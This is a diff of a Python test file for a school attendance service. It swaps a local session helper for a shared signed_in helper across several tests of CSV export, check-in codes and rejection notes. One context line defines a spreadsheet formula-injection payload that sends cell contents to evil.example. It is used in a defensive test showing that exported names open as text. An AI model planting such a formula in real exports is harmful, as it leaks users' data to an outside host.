@@ -16,7 +16,7 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 
-from dal.models import Attendance, AttendanceRecord, CachedAccount, Role
+from dal.models import Attendance, AttendanceRecord, Role
 from dal.pg import Postgres
 from dal.redis.stores import RedisStores
 from services.accounts import AccountService
@@ -35,22 +35,13 @@ from tests.support import (
     link,
     open_session,
     pg_behind_proxy,
+    signed_in,
     student_user,
     teacher_user,
 )
 
 NOW = datetime.now(UTC).replace(microsecond=0)
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
-
-
-def _session(user_number: str, role: Role, telegram_id: int = 1) -> CachedAccount:
-    return CachedAccount(
-        telegram_id=telegram_id,
-        school_number=user_number,
-        full_name="X",
-        role=role,
-        logged_in_at=NOW,
-    )
 
 
 def _accounts(
@@ -123,7 +114,7 @@ async def test_exported_formula_names_open_as_text(pg_client: Postgres) -> None:
         tz=IST,
     )
     _, data = await reports.export_csv(
-        teacher=_session(teacher.user_school_number, Role.TEACHER), attendance_id=aid
+        teacher=signed_in(teacher.user_school_number, Role.TEACHER), attendance_id=aid
     )
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
     names = {row[0]: row[1] for row in rows[1:]}
@@ -169,7 +160,7 @@ async def test_a_code_in_other_digits_checks_in(
         end=NOW + timedelta(minutes=50),
         enrolled=["2024001"],
     )
-    student = _session("2024001", Role.STUDENT, telegram_id=501)
+    student = signed_in("2024001", Role.STUDENT, telegram_id=501)
     await redis_client.users.save_user_session(session=student, ttl_seconds=3600)
     service = _attendance(pg_client, redis_client)
 
@@ -183,7 +174,7 @@ async def test_text_that_cannot_be_a_code_is_not_counted_as_a_wrong_code(
     pg_client: Postgres, redis_client: RedisStores
 ) -> None:
     await redis_client.users.save_user_session(
-        session=_session("2024001", Role.STUDENT, telegram_id=501), ttl_seconds=3600
+        session=signed_in("2024001", Role.STUDENT, telegram_id=501), ttl_seconds=3600
     )
     service = _attendance(pg_client, redis_client)
     for _ in range(10):
@@ -204,7 +195,7 @@ async def test_a_long_rejection_note_is_capped_once_where_it_is_stored(
         enrolled=["2024001"],
     )
     await redis_client.users.save_user_session(
-        session=_session("2024001", Role.STUDENT, telegram_id=501), ttl_seconds=3600
+        session=signed_in("2024001", Role.STUDENT, telegram_id=501), ttl_seconds=3600
     )
     notifier = RecordingNotifier()
     service = _attendance(pg_client, redis_client, notifier)
@@ -212,7 +203,7 @@ async def test_a_long_rejection_note_is_capped_once_where_it_is_stored(
 
     typed = "<&>" * 1365  # 4,095 characters, each an HTML entity once escaped
     stored = await service.review(
-        teacher=_session(teacher.user_school_number, Role.TEACHER, telegram_id=9),
+        teacher=signed_in(teacher.user_school_number, Role.TEACHER, telegram_id=9),
         attendance_id=session.attendance_id,
         student_number="2024001",
         accept=False,
